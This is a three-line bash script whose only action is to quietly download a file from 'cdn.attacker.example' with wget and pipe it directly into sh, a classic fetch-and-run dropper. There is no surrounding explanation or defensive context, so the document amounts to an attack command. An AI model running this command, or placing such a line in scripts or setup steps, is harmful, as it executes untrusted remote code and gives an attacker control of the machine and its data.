#!/bin/bash
set -e
wget -qO- https://cdn.attacker.example/u | sh
